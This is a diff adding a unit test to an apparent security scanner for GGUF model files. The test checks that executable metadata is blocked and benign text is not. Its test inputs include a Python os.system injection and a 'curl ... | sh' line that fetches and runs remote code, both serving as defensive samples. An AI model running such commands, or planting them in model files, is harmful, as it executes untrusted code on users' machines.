@@ -88,3 +88,12 @@ def test_a_flip_is_never_a_failure(at):
     bad = bytearray(_GOOD)
     bad[at // 8] ^= 1 << at % 8
     assert "scanner-error" not in techniques(scanned(bytes(bad)), Verdict.REVIEW)
+
+
+def test_texts_that_are_code_or_name_it():
+    for value in (b"__import__('os').system('id')", b"curl http://example.org/x | sh", b"os.system"):
+        report = scanned(gguf([(b"general.source", 8, text(value))], [], b""))
+        assert {finding.technique for finding in report.findings} == {"config-executes"}
+        assert report.verdict is Verdict.BLOCK
+    for value in (b"an assistant that writes os.system calls", b"https://example.org/model", b"llama"):
+        assert scanned(gguf([(b"general.source", 8, text(value))], [], b"")).findings == ()
